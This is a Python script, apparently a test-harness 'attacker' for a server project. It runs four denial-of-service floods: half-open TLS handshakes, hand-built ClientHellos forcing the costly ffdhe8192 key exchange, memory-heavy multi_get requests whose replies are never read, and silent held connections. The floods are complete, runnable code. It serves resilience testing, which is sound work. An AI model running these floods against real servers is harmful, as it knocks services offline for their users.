"""What a stranger does to a server, from a host of its own. Each attack says `begun` when all of it
is under way, holds on to what it has, goes on with what the server closes, and ends with its input.

usage: attacker.py halfopen HOST PORT COUNT ADDRESS,...  connections that begin TLS and stop there
       attacker.py ffdhe HOST PORT COUNT ADDRESS,...     hellos for the costliest key exchange
       attacker.py multiget HOST PORT COUNT              who ask for 6 x 8 MiB and read nothing
       attacker.py silent HOST PORT COUNT                connections that say nothing
"""
import os
import resource
import select
import socket
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "interop"))
from lib import Conn, texts  # noqa: E402

AT_ONCE = 200  # connections that are being made
VALUE = 8 << 20


def extension(kind, data):
    return struct.pack(">HH", kind, len(data)) + data


def hello(group, share):
    """A ClientHello of TLS 1.3 with certificates, for one group."""
    shares = struct.pack(">HH", group, len(share)) + share
    extensions = b"".join([
        extension(43, b"\x02\x03\x04"),
        extension(10, struct.pack(">HH", 2, group)),
        extension(51, struct.pack(">H", len(shares)) + shares),
        extension(13, bytes.fromhex("000a08040805040305030807")),
        extension(45, b"\x01\x01")])
    body = b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32)
    body += b"\x00\x06\x13\x01\x13\x02\x13\x03\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def ffdhe8192():
    return hello(0x0104, b"\x7f" + os.urandom(1023))


def x25519():
    return hello(0x001D, os.urandom(32))


class Flood:
    """So many connections that each say something and then no more."""

    def __init__(self, target, count, addresses, words):
        self.target, self.count, self.addresses, self.words = target, count, addresses, words
        self.made = self.failed = self.closed = 0
        self.poll = select.epoll()
        self.making, self.held = {}, {}

    def connect(self):
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        s.bind((self.addresses[self.made % len(self.addresses)], 0))
        s.connect_ex(self.target)
        self.making[s.fileno()] = s
        self.poll.register(s, select.EPOLLOUT)
        self.made += 1

    def step(self):
        """Takes what has happened."""
        for fd, _ in self.poll.poll(0.05):
            s = self.making.pop(fd, None)
            if s:
                try:
                    s.send(self.words(self.made))
                    self.held[fd] = s
                    self.poll.modify(fd, select.EPOLLIN)
                except OSError:
                    self.failed += 1
                    s.close()
                continue
            s = self.held[fd]
            try:
                over = not s.recv(65536)
            except OSError:
                over = True
            if over:
                self.closed += 1
                del self.held[fd]
                s.close()

    def run(self):
        while self.made < self.count or self.making:
            while self.made < self.count and len(self.making) < AT_ONCE:
                self.connect()
            self.step()
        print("begun", flush=True)
        while not select.select([sys.stdin], [], [], 0)[0]:
            self.step()
        print("made %d, failed %d, closed by the server %d" % (self.made, self.failed, self.closed))


def multiget(host, port, count):
    with Conn(port, 2, host=host) as conn:
        conn.set_acked("large", b"x" * VALUE)
    conns = [Conn(port, 2, host=host) for _ in range(count)]
    for conn in conns:
        conn.send(conn.op("multi_get", texts(["large"] * 6)))
    print("begun", flush=True)
    sys.stdin.read()


def silent(host, port, count):
    conns = []
    print("begun", flush=True)
    while not select.select([sys.stdin], [], [], 0.05)[0]:
        for conn in select.select(conns, [], [], 0)[0]:
            conn.close()
            conns.remove(conn)
        while len(conns) < count:
            conns.append(socket.create_connection((host, port), 20))


def main(attack, host, port, count, addresses=""):
    os.nice(19)  # an attacker has a machine of its own, and takes no time from the others'
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    target = (socket.gethostbyname(host), int(port))
    one_byte, partial = b"\x16", x25519()
    if attack == "halfopen":
        # One byte, half a hello, and a whole one, each in its turn.
        kinds = (one_byte, partial[:100], partial)
        Flood(target, int(count), addresses.split(","), lambda i: kinds[i % 3]).run()
    elif attack == "ffdhe":
        Flood(target, int(count), addresses.split(","), lambda _: ffdhe8192()).run()
    else:
        {"multiget": multiget, "silent": silent}[attack](target[0], target[1], int(count))


if __name__ == "__main__":
    main(*sys.argv[1:])
